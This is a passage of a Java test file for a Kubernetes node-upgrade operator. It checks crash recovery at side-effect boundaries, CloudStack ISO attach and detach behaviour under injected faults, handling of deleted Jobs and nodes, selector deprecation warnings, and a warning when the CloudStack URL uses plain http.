            NodeUpgradeStatus status = new ReconcileLoop<NodeUpgrade, NodeUpgradeStatus>(
                    u -> crash.reconcile(u, r -> reconciler.reconcile(r, null), store, NodeUpgradeStatus.class, this::restartOperator),
                    clock, this::playKubelets, this::describe).until(upgrade, "finished", NodeUpgradeStatus::finished);
            assertThat(crash.happened()).as("the operator was halted at " + point.pointName()).isTrue();
            assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        }
        assertThat(upgrade.getStatus().getIsoCanary().getNode()).isEqualTo(W2);
        assertThat(isoCalls("attachIso")).containsExactly(vmOf(W1), vmOf(W2), vmOf(W2));
        assertThat(isoCalls("detachIso")).containsExactly(vmOf(W1), vmOf(W2), vmOf(W2));
        assertThat(simulator.clusterVms(cluster.id())).allSatisfy(vm -> assertThat(vm.isoId()).isNull());
        assertThat(jobs.created).as("no Job made twice").doesNotHaveDuplicates();
        assertThat(nodes.ours(W2)).isEmpty();
    }

    // ---- Crash safety: a kill at every side-effect/status boundary ------------------------------------------

    /** BAD_ISO: CloudStackIso whose ISO fails the canary. */
    enum Scenario { SCRIPT, CLOUDSTACK_ISO, BAD_ISO, JOB_FAILS, DELETED }

    static Stream<Arguments> killPoints() {
        return Stream.of(
                Arguments.of(KillPoint.NODEUPGRADE_LOCKED, 1, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_LOCKED, 2, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_CORDONED, 1, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_CORDONED, 3, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_DRAIN_STEP, 1, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_JOB_CREATED, 1, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_JOB_CREATED, 2, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_RELEASED, 1, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_RELEASED, 3, Scenario.SCRIPT),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_INTENT, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_ATTACH_ANSWERED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_ATTACHED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_JOB_CREATED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_VERDICT_READ, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACH_ANSWERED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACHED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_INTENT, 1, Scenario.BAD_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_VERDICT_READ, 1, Scenario.BAD_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACHED, 1, Scenario.BAD_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_INTENT, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_INTENT, 2, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_ATTACH_ANSWERED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_ATTACH_ANSWERED, 3, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_ATTACHED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_DETACH_ANSWERED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_DETACH_ANSWERED, 2, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_ISO_DETACHED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_SCRIPT_WRITTEN, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_JOB_CREATED, 1, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_RELEASED, 2, Scenario.CLOUDSTACK_ISO),
                Arguments.of(KillPoint.NODEUPGRADE_FAILED_RELEASED, 1, Scenario.JOB_FAILS),
                Arguments.of(KillPoint.NODEUPGRADE_JOB_ORPHANED, 1, Scenario.DELETED),
                Arguments.of(KillPoint.NODEUPGRADE_DELETED_RELEASED, 1, Scenario.DELETED));
    }

    /**
     * The operator halts right after a side effect, before its record; a new one starts from the status the
     * API server holds. The upgrade ends as it would have, no node got a second upgrade Job, every ISO was
     * attached and detached once, and no node is left with this operator's cordon or lock.
     */
    @ParameterizedTest(name = "{0} #{1} ({2})")
    @MethodSource("killPoints")
    @ResourceLock(Crash.ARMED_POINT)
    void killedRightAfterASideEffectARestartedOperatorFinishesCorrectly(KillPoint point, int nth, Scenario scenario) throws Exception {
        // CloudStack's jobs take a while and run to their end whether or not the operator is there to poll them.
        simulator.setDefaultJobOutcome(new JobOutcome.SucceedsAfter(java.time.Duration.ofSeconds(4)));
        if (scenario == Scenario.JOB_FAILS) {
            failingJobs.add(W1);
        }
        if (scenario == Scenario.BAD_ISO) {
            jobs.canaryLog = BAD_ISO_LOG;
        }
        boolean usesIso = scenario == Scenario.CLOUDSTACK_ISO || scenario == Scenario.BAD_ISO;
        create(usesIso ? UpgradeExecutor.Type.CloudStackIso : UpgradeExecutor.Type.Script, spec -> { });

        try (Crash crash = Crash.at(point, nth)) {
            ReconcileLoop<NodeUpgrade, NodeUpgradeStatus> loop = new ReconcileLoop<>(
                    u -> crash.reconcile(u, r -> reconciler.reconcile(r, null), store, NodeUpgradeStatus.class, this::restartOperator),
                    clock, this::playKubelets, this::describe);
            if (scenario == Scenario.DELETED) {
                jobsFinish = false;
                loop.until(upgrade, "upgrading", s -> s.getNodes().stream().anyMatch(n -> n.getPhase() == Phase.Upgrading && n.getJobName() != null));
                for (int attempt = 0; attempt < 3; attempt++) {
                    if (crash.call(() -> reconciler.cleanup(upgrade, null), () -> {
                        upgrade.setStatus(store.durable(NodeUpgradeStatus.class));
                        restartOperator();
                    }).map(DeleteControl::isRemoveFinalizer).orElse(false)) {
                        break;
                    }
                }
                assertThat(jobs.jobOf(CONTROL).getMetadata().getOwnerReferences()).as("the running Job was orphaned").isEmpty();
                assertThat(nodes.ours(CONTROL)).as("released, left cordoned under its running Job")
                        .containsOnlyKeys(NodeAnnotations.CORDONED_BY);
            } else {
                NodeUpgradeStatus status = loop.until(upgrade, "finished", NodeUpgradeStatus::finished);
                assertThat(status.getPhase()).as(describe()).isEqualTo(scenario == Scenario.JOB_FAILS || scenario == Scenario.BAD_ISO
                        ? NodeUpgradeStatus.Phase.Failed : NodeUpgradeStatus.Phase.Succeeded);
                List.of(CONTROL, W1, W2).forEach(n -> {
                    assertThat(nodes.ours(n)).as("our cordon or lock left on " + n).isEmpty();
                    assertThat(nodes.isCordoned(n)).as(n + " left cordoned").isFalse();
                });
                // A refused ISO made no upgrade Job; every other scenario made one per node.
                assertThat(status.getNodes()).filteredOn(n -> jobs.nodesWithJobs().contains(n.getName()))
                        .as("each node's upgrade Job is named in its status, also one made right before a halt")
                        .hasSize(scenario == Scenario.BAD_ISO ? 0 : jobs.nodesWithJobs().size())
                        .allSatisfy(n -> assertThat(n.getJobName()).as(n.getName()).isNotNull());
            }
            assertThat(crash.happened()).as("the operator was halted at " + point.pointName()).isTrue();
        }

        assertThat(jobs.created).as("no Job created twice").doesNotHaveDuplicates();
        assertThat(jobs.nodesWithJobs()).as("one upgrade Job per node").doesNotHaveDuplicates();
        if (scenario == Scenario.CLOUDSTACK_ISO) {
            assertThat(simulator.calls("attachIso")).as("one attach per node, and the canary's").hasSize(4);
            assertThat(simulator.calls("detachIso")).as("one detach per node, and the canary's").hasSize(4);
            assertThat(jobs.canaryJobs()).as("one canary").hasSize(1);
            assertThat(upgrade.getStatus().getIsoCanary().getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
        }
        if (scenario == Scenario.BAD_ISO) {
            assertThat(simulator.calls("attachIso")).as("the canary's attach, once").hasSize(1);
            assertThat(simulator.calls("detachIso")).as("the canary's detach, once").hasSize(1);
            assertThat(jobs.canaryJobs()).as("one canary").hasSize(1);
            assertThat(jobs.nodesWithJobs()).as("no upgrade Job").isEmpty();
            assertThat(nodes.calls).as("nothing cordoned").noneMatch(c -> c.startsWith("cordon") || c.startsWith("lock"));
            assertThat(condition(Conditions.ACCEPTED).getMessage()).contains("no archive for docker/etcd:3.6.5-0.tar").contains("Nothing was cordoned");
        }
        if (usesIso) {
            assertThat(simulator.clusterVms(cluster.id())).allSatisfy(vm -> assertThat(vm.isoId()).isNull());
        }
        if (scenario == Scenario.JOB_FAILS) {
            assertThat(node(W1).getPhase()).isEqualTo(Phase.Failed);
            assertThat(nodes.calls).doesNotContain("cordon " + W2);
        }
    }

    // ---- Fault matrix: attachIso and detachIso against every way their answer can go wrong ----------------------

    enum IsoWrite {
        ATTACH("attachIso"), DETACH("detachIso");

        final String command;

        IsoWrite(String command) {
            this.command = command;
        }
    }

    enum IsoFault {
        SERVER_ERROR_BEFORE_ACTING, TIMEOUT_AFTER_ACTING, BAD_GATEWAY_AFTER_ACTING, GATEWAY_TIMEOUT_AFTER_ACTING, TRUNCATED_AFTER_ACTING,
        THROTTLED, DROPPED_CONNECTION, JOB_FAILS, JOB_NEVER_ENDS;

        /** CloudStack took the write and ran it; only its answer went wrong. */
        boolean afterActing() {
            return this == TIMEOUT_AFTER_ACTING || this == BAD_GATEWAY_AFTER_ACTING || this == GATEWAY_TIMEOUT_AFTER_ACTING || this == TRUNCATED_AFTER_ACTING;
        }

        dev.cks.nodeops.cloudstack.simulator.Fault fault() {
            return switch (this) {
                case SERVER_ERROR_BEFORE_ACTING -> dev.cks.nodeops.cloudstack.simulator.Fault.serverError();
                case TIMEOUT_AFTER_ACTING -> dev.cks.nodeops.cloudstack.simulator.Fault.actsThenAnswersLate(SimulatedCloudStack.READ_TIMEOUT.plusSeconds(1));
                case BAD_GATEWAY_AFTER_ACTING -> dev.cks.nodeops.cloudstack.simulator.Fault.actsThenBadGateway();
                case GATEWAY_TIMEOUT_AFTER_ACTING -> dev.cks.nodeops.cloudstack.simulator.Fault.actsThenGatewayTimeout();
                case TRUNCATED_AFTER_ACTING -> dev.cks.nodeops.cloudstack.simulator.Fault.actsThenTruncated();
                case THROTTLED -> dev.cks.nodeops.cloudstack.simulator.Fault.throttled();
                case DROPPED_CONNECTION -> dev.cks.nodeops.cloudstack.simulator.Fault.droppedConnection();
                case JOB_FAILS, JOB_NEVER_ENDS -> throw new IllegalStateException(this + " is a job outcome, not an answer");
            };
        }
    }

    static Stream<Arguments> isoFaultMatrix() {
        return Stream.of(IsoWrite.values()).flatMap(write -> Stream.of(IsoFault.values()).map(failure -> Arguments.of(write, failure)));
    }

    /** The hypervisor's side of attachIso/detachIso: what CloudStack really did to each VM's CD-ROM, in order. */
    private static final class RecordingIsoDrive implements dev.cks.nodeops.cloudstack.simulator.IsoDrive {
        final Map<String, List<String>> byVm = new java.util.concurrent.ConcurrentHashMap<>();

        @Override
        public void insert(String vmId, String isoId) {
            byVm.computeIfAbsent(vmId, vm -> new java.util.concurrent.CopyOnWriteArrayList<>()).add("insert");
        }

        @Override
        public void eject(String vmId) {
            byVm.computeIfAbsent(vmId, vm -> new java.util.concurrent.CopyOnWriteArrayList<>()).add("eject");
        }
    }

    /**
     * Every node's attachIso (or detachIso) meets the fault; the answer faults happen at the boundary: the
     * simulator runs the write, then the answer is lost or mangled. The upgrade ends right, CloudStack attached
     * and detached each node's ISO exactly once, no node is left cordoned, and between any two reconciles the
     * status never claims an ISO state CloudStack does not show (the outcome is read, not assumed).
     */
    @ParameterizedTest(name = "{0} × {1}")
    @MethodSource("isoFaultMatrix")
    // Each case has its own simulator, clock and fakes (a test instance per case) and waits in real time for late
    // answers: the cases overlap their waits (surefire's junit.jupiter.execution.parallel settings, pom.xml), never
    // while a kill-point test has a point armed, which any reconciler of the JVM would reach.
    @Execution(ExecutionMode.CONCURRENT)
    @ResourceLock(value = Crash.ARMED_POINT, mode = ResourceAccessMode.READ)
    void everyIsoWriteEndsRightWhateverHappensToItsAnswer(IsoWrite write, IsoFault failure) {
        RecordingIsoDrive drive = new RecordingIsoDrive();
        simulator.useIsoDrive(drive);
        // CloudStack's jobs take a while and run to their end whether or not anybody polls them.
        simulator.setDefaultJobOutcome(new JobOutcome.SucceedsAfter(java.time.Duration.ofSeconds(4)));
        List<String> vms = cluster.vmIds();
        switch (failure) {
            case JOB_FAILS -> simulator.planJob(write.command, JobOutcome.fails(530, "Failed to " + (write == IsoWrite.ATTACH ? "attach" : "detach") + " ISO"));
            case JOB_NEVER_ENDS -> simulator.planJob(write.command, JobOutcome.neverFinishes());
            default -> vms.forEach(vm -> simulator.injectFault(write.command, "virtualmachineid", vm, failure.fault()));
        }
        create(UpgradeExecutor.Type.CloudStackIso, spec -> { });
        List<String> reasons = new java.util.ArrayList<>();
        Runnable between = () -> {
            // A slow answer is still being sent after the client gave up: the world goes on once it is out.
            org.awaitility.Awaitility.await().pollDelay(java.time.Duration.ZERO).atMost(java.time.Duration.ofSeconds(20))
                    .until(() -> simulator.requestsInFlight() == 0);
            Conditions.find(upgrade.getStatus().getConditions(), Conditions.WAITING).filter(c -> "True".equals(c.getStatus()))
                    .ifPresent(c -> reasons.add(c.getReason()));
            assertStatusShowsOnlyWhatCloudStackShows(failure);
            playKubelets();
        };
        ReconcileLoop<NodeUpgrade, NodeUpgradeStatus> loop = new ReconcileLoop<>(u -> reconciler.reconcile(u, null), clock, between, this::describe);

        if (failure == IsoFault.JOB_NEVER_ENDS) {
            // Past the NodeUpgrade's deadline (2 h): a node whose ISO job runs is under way and is not given back under it.
            Instant start = clock.instant();
            loop.until(upgrade, "2 hours on", s -> java.time.Duration.between(start, clock.instant()).toMinutes() >= 121);
            // The first write of each is the canary's, before any node is cordoned: a canary that never ends cordons nothing.
            IsoCanaryStatus canary = upgrade.getStatus().getIsoCanary();
            assertThat(canary.getIsoState()).as("nothing is assumed while CloudStack's job runs")
                    .isEqualTo(write == IsoWrite.ATTACH ? IsoState.Attaching : IsoState.Detaching);
            assertThat(canary.getVerdict()).as("the verdict is read before the detach").isEqualTo(write == IsoWrite.ATTACH ? null : IsoCanaryStatus.Verdict.Passed);
            assertThat(nodes.calls).as("nothing cordoned").noneMatch(c -> c.startsWith("cordon"));
            assertThat(simulator.calls(write.command)).as("the running job is waited for, the write not sent again").hasSize(1);
            assertThat(simulator.calls("queryAsyncJobResult").size()).as("looked at less often the longer it runs").isLessThan(200);
            assertThat(upgrade.getStatus().getConditions()).as(describe())
                    .anySatisfy(c -> assertThat(c.getMessage()).contains("pending for 12").contains("Nothing is assumed until it ends"));
            return;
        }
        NodeUpgradeStatus status = loop.until(upgrade, "finished", NodeUpgradeStatus::finished);

        List.of(CONTROL, W1, W2).forEach(n -> {
            assertThat(nodes.ours(n)).as("our cordon or lock left on " + n).isEmpty();
            assertThat(nodes.isCordoned(n)).as(n + " left cordoned").isFalse();
        });
        if (failure == IsoFault.JOB_FAILS) {
            assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
            assertThat(node(CONTROL).getPhase()).isEqualTo(Phase.Failed);
            assertThat(node(CONTROL).getError()).contains("Failed to " + (write == IsoWrite.ATTACH ? "attach" : "detach") + " ISO");
            assertThat(drive.byVm.get(vms.get(0))).as("what CloudStack did to the first node's VM")
                    .isEqualTo(write == IsoWrite.ATTACH ? null : List.of("insert"));
            assertThat(simulator.calls(write.command)).as("a failed job is CloudStack's answer: not asked again").hasSize(1);
            if (write == IsoWrite.ATTACH) {
                assertThat(simulator.calls("detachIso")).as("nothing to take off").isEmpty();
            } else {
                assertThat(node(CONTROL).getError()).contains("Detach it in CloudStack");
                assertThat(events.reasons()).contains("IsoNotDetached");
                assertThat(simulator.vm(vms.get(0)).isoId()).as("reported as CloudStack left it").isNotNull();
            }
            assertThat(nodes.calls).as("no other node is started").doesNotContain("cordon " + W1);
            return;
        }
        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getNodes()).allSatisfy(n -> assertThat(n.getPhase()).isEqualTo(Phase.Succeeded));
        // The first node's VM gets the ISO twice: the canary's check (whose write meets the fault), then its upgrade.
        String canaryVm = status.getIsoCanary().getVmId();
        assertThat(canaryVm).isEqualTo(vms.get(0));
        vms.forEach(vm -> {
            boolean canary = vm.equals(canaryVm);
            assertThat(drive.byVm.get(vm)).as("CloudStack attached and detached the ISO of VM " + vm + " once each" + (canary ? ", for the canary and the upgrade" : ""))
                    .isEqualTo(canary ? List.of("insert", "eject", "insert", "eject") : List.of("insert", "eject"));
            assertThat(simulator.vm(vm).isoId()).isNull();
            long sent = simulator.calls(write.command).stream().filter(call -> vm.equals(call.param("virtualmachineid"))).count();
            assertThat(sent).as(write.command + " requests for VM " + vm).isEqualTo((failure.afterActing() ? 1 : 2) + (canary ? 1 : 0));
        });
        assertThat(simulator.jobCommands()).as("CloudStack ran one attach and one detach for the canary, then per node")
                .filteredOn(command -> command.endsWith("Iso")).containsExactly("attachIso", "detachIso", "attachIso", "detachIso", "attachIso", "detachIso",
                        "attachIso", "detachIso");
        assertThat(status.getIsoCanary().getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
        assertThat(jobs.nodesWithJobs()).as("one upgrade Job per node").doesNotHaveDuplicates().hasSize(3);
        if (failure == IsoFault.THROTTLED) {
            assertThat(reasons).as("turned away before execution: asked again later, never looked up").contains(CloudStackWait.UNAVAILABLE)
                    .doesNotContain(dev.cks.nodeops.operation.CloudStackWrite.ANSWER_LOST);
            assertThat(simulator.calls("listAsyncJobs")).isEmpty();
        } else {
            assertThat(reasons).as("the outcome was unknown and looked up").contains(dev.cks.nodeops.operation.CloudStackWrite.ANSWER_LOST);
            assertThat(simulator.calls("listAsyncJobs")).as("CloudStack's jobs read for each node's lost answer").hasSizeGreaterThanOrEqualTo(3);
        }
        assertThat(events.all()).filteredOn(e -> e.reason().equals("RequestResent")).as("sent again only when it provably never arrived")
                .hasSize(failure.afterActing() || failure == IsoFault.THROTTLED ? 0 : 3);
    }

    /**
     * Between two reconciles: an ISO the status calls attached (so the node's Job may start) is on the VM in
     * CloudStack, and one it calls detached is gone (but for a detach CloudStack failed, reported as such).
     */
    private void assertStatusShowsOnlyWhatCloudStackShows(IsoFault failure) {
        List<IsoRecord> records = new java.util.ArrayList<>(upgrade.getStatus().getNodes());
        if (upgrade.getStatus().getIsoCanary() != null && !upgrade.getStatus().getIsoCanary().isOver()) {
            // Once over, the canary's record is history: the node's upgrade may have attached the ISO again since.
            records.add(upgrade.getStatus().getIsoCanary());
        }
        for (IsoRecord node : records) {
            if (node.getVmId() == null || node.getIsoState() == null) {
                continue;
            }
            String carried = simulator.vm(node.getVmId()).isoId();
            if (node.getIsoState() == IsoState.Attached) {
                assertThat(carried).as("node " + node.getName() + " recorded Attached: " + describe()).isEqualTo(node.getIsoId());
            }
            if (node.getIsoState() == IsoState.Detached && failure != IsoFault.JOB_FAILS) {
                assertThat(carried).as("node " + node.getName() + " recorded Detached: " + describe()).isNull();
            }
        }
    }

    /** cks_drain_blocked of the node, as the operator exports it from this status (0 when there is no series). */
    private double drainBlocked(String node) {
        return dev.cks.nodeops.monitoring.StatusSeries.drainsBlocked(java.util.List.of(upgrade), java.util.List.of(), clock.instant()).stream()
                .filter(s -> node.equals(s.labels().get("node"))).mapToDouble(dev.cks.nodeops.monitoring.StatusSeries.Sample::value).sum();
    }

    /**
     * Shape: one worker upgraded (Script). Actor: a person running kubectl delete job after the Job's pod started.
     * Before, the operator made a second Job under the same name and reported the node upgraded.
     */
    @Test
    void aJobDeletedAfterItsPodStartedFailsTheNodeAndIsNotMadeAgain() {
        jobsFinish = false;
        create(UpgradeExecutor.Type.Script, workerOnly(W1));
        reconcileUntil("the worker's Job", s -> jobs.hasJob(W1));
        reconciler.reconcile(upgrade, null); // the Job's event: its pod is ready
        String jobName = jobs.jobOf(W1).getMetadata().getName();

        jobs.jobs.clear();
        jobsFinish = true;
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(jobs.created).as("never made a second time").containsExactly(jobName);
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(W1).getError()).contains("The upgrade Job " + settings.namespace() + "/" + jobName + " of node " + W1
                + " was deleted; kubeadm may have run").contains(NodeAnnotations.RETRY);
        assertThat(events.all()).filteredOn(e -> e.reason().equals(UpgradeJobStep.JOB_DELETED)).singleElement()
                .satisfies(e -> assertThat(e.type()).isEqualTo("Warning"));
    }

    /**
     * Shape: one worker upgraded (Script), its Job's pod never admitted. Actor: a person running kubectl delete job.
     * The operator had seen that no pod of it started: the Job is made again, and the event says why.
     */
    @Test
    void aJobDeletedBeforeAnyPodOfItStartedIsMadeAgainAndTheEventSaysSo() {
        jobs.podsRun = false;
        jobsFinish = false;
        create(UpgradeExecutor.Type.Script, workerOnly(W1));
        reconcileUntil("the worker's Job", s -> jobs.hasJob(W1));
        reconciler.reconcile(upgrade, null); // the Job's event: no pod yet
        String jobName = jobs.jobOf(W1).getMetadata().getName();

        jobs.jobs.clear();
        reconciler.reconcile(upgrade, null); // the Job's delete event

        assertThat(jobs.created).containsExactly(jobName, jobName);
        assertThat(events.all()).filteredOn(e -> e.reason().equals(UpgradeJobStep.JOB_DELETED)).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).contains(jobName).contains("was deleted").contains("no pod of it had started").contains("made again");
        });
        jobsFinish = true;
        assertThat(reconcileToEnd().getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
    }

    /**
     * Shape: one worker upgraded (Script). Actor: the Job's TTL (or a person) while the operator was down: what the
     * operator last saw (no pod started) is too old to say that none started since. Before, the Job was made
     * again (a short outage) or the node failed as "gone and its outcome unknown" (past the TTL).
     */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(longs = {600, 90_000})
    void aJobGoneWhileTheOperatorWasDownFailsTheNode(long downSeconds) {
        jobs.podsRun = false;
        jobsFinish = false;
        create(UpgradeExecutor.Type.Script, workerOnly(W1));
        reconcileUntil("the worker's Job", s -> jobs.hasJob(W1));
        reconciler.reconcile(upgrade, null);
        String jobName = jobs.jobOf(W1).getMetadata().getName();

        clock.advance(java.time.Duration.ofSeconds(downSeconds));
        jobs.jobs.clear();
        restartOperator();
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(jobs.created).containsExactly(jobName);
        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(W1).getError()).contains("was deleted; kubeadm may have run");
        assertThat(nodes.isCordoned(W1)).as("given back like any failed node").isFalse();
    }

    /** Shape: any cluster. Actor: a person whose selector matches no node. Before, a plain Succeeded said nothing was wrong. */
    @Test
    void aSelectorMatchingNoNodeSucceedsAsNothingSelectedWithAWarning() {
        create(UpgradeExecutor.Type.Script, spec -> spec.setSelector(new LabelSelector(null, Map.of("kubernetes.io/hostname", "prod-node-typo"))));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(condition(Conditions.SUCCEEDED).getReason()).isEqualTo("NothingSelected");
        assertThat(events.all()).filteredOn(e -> e.reason().equals("NothingSelected")).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).contains("kubernetes.io/hostname=prod-node-typo");
        });
    }

    /**
     * Shape: a kubeadm (CKS) cluster, one control-plane node (Ready at the target already, its API server too) and two
     * workers. Actor: a person selecting "workers only" with spec.selector's matchExpressions (#35): the control-plane node
     * is not part of the upgrade at all, not even as a skipped node.
     */
    @Test
    void aSelectorWithDoesNotExistOnTheControlPlaneLabelPlansExactlyTheWorkers() {
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        create(UpgradeExecutor.Type.Script, spec -> spec.setSelector(new io.fabric8.kubernetes.api.model.LabelSelectorBuilder().addNewMatchExpression()
                .withKey("node-role.kubernetes.io/control-plane").withOperator("DoesNotExist").endMatchExpression().build()));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getNodes()).extracting(UpgradeNodeStatus::getName).containsExactly(W1, W2);
        assertThat(jobs.nodesWithJobs()).containsExactly(W1, W2);
        assertThat(nodes.calls).noneMatch(call -> call.contains(CONTROL));
        assertThat(events.all()).noneMatch(e -> e.reason().equals(NodeSelection.DEPRECATED_NODE_SELECTOR));
        assertThat(events.all()).noneMatch(e -> e.reason().equals(PodSelection.DEPRECATED_POD_SELECTOR));
    }

    /**
     * Shape: three nodes, the control plane at the target. Actor: a person whose NodeUpgrade (written for the last release)
     * still selects with the deprecated spec.nodeSelector: it is upgraded as before, with one Warning event that spells out
     * the move, and the Accepted condition says it as long as the upgrade is shown.
     */
    @Test
    void theDeprecatedNodeSelectorStillSelectsWithAWarningThatSpellsOutTheMove() {
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        create(UpgradeExecutor.Type.Script, spec -> spec.setNodeSelector(Map.of("kubernetes.io/hostname", W1)));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getNodes()).extracting(UpgradeNodeStatus::getName).containsExactly(W1);
        String move = "Write spec.selector: {matchLabels: {kubernetes.io/hostname: " + W1 + "}} instead and remove spec.nodeSelector";
        assertThat(events.all()).filteredOn(e -> e.reason().equals(NodeSelection.DEPRECATED_NODE_SELECTOR)).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).startsWith("NodeUpgrade to-1-35 selects its nodes with spec.nodeSelector, which is deprecated").contains(move);
        });
        assertThat(condition(Conditions.ACCEPTED).getMessage()).contains(move);
    }

    /**
     * Shape: three nodes, the control plane at the target. Actor: a person whose NodeUpgrade (written for the last release)
     * still selects the pods to drain with the deprecated spec.drain.podSelector: it is upgraded as before, with one Warning
     * event that spells out the same requirements as spec.drain.selector, and the Accepted condition says it too.
     */
    @Test
    void theDeprecatedPodSelectorStillDrainsWithAWarningThatSpellsOutTheMove() {
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        create(UpgradeExecutor.Type.Script, spec -> spec.getDrain().setPodSelector("app=web,tier!=cache"));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        String move = "Write spec.drain.selector: {matchLabels: {app: web}, matchExpressions: [{key: tier, operator: NotIn, values: [cache]}]}"
                + " instead and remove spec.drain.podSelector";
        assertThat(events.all()).filteredOn(e -> e.reason().equals(PodSelection.DEPRECATED_POD_SELECTOR)).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).startsWith("NodeUpgrade to-1-35 selects the pods to drain with spec.drain.podSelector 'app=web,tier!=cache'")
                    .contains(move).endsWith("so do it in the next one.");
        });
        assertThat(condition(Conditions.ACCEPTED).getMessage()).contains(move);
    }

    /**
     * Shape: three nodes. Actor: a person (or cluster-autoscaler) deleting a planned worker's Node mid-rollout.
     * Before, the NodeUpgrade failed at that node.
     */
    @Test
    void aPlannedNodeDeletedMidRolloutIsReportedAndSkipped() {
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("the control plane's Job", s -> jobs.hasJob(CONTROL));
        nodes.delete(W2);

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(W2).getPhase()).isEqualTo(Phase.Skipped);
        assertThat(node(W2).getSkipReason()).contains("Node object was deleted");
        assertThat(condition(Conditions.SUCCEEDED).getMessage()).contains(W2 + " (");
        assertThat(events.all()).filteredOn(e -> e.reason().equals(NodeUpgradePipeline.NODE_SKIPPED) && e.message().contains(W2))
                .singleElement().satisfies(e -> assertThat(e.type()).isEqualTo("Warning"));
        assertThat(jobs.nodesWithJobs()).containsExactly(CONTROL, W1);
    }

    /** Shape: one CKS cluster, CloudStackIso. Actor: whoever wrote http:// into cloudstack-secret's api-url. Before, accepted silently. */
    @Test
    void aPlainHttpCloudStackUrlGivesAWarningConditionAndOneEvent() {
        assertThat(simulator.apiUrl()).startsWith("http://");
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as("plain http is warned about, not refused").isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(condition(Conditions.CLOUDSTACK_TLS).getStatus()).isEqualTo("False");
        assertThat(condition(Conditions.CLOUDSTACK_TLS).getReason()).isEqualTo("PlainHttp");
        assertThat(condition(Conditions.CLOUDSTACK_TLS).getMessage()).contains(simulator.apiUrl()).contains("https");
        assertThat(events.all()).filteredOn(e -> e.reason().equals("PlainHttp")).singleElement()
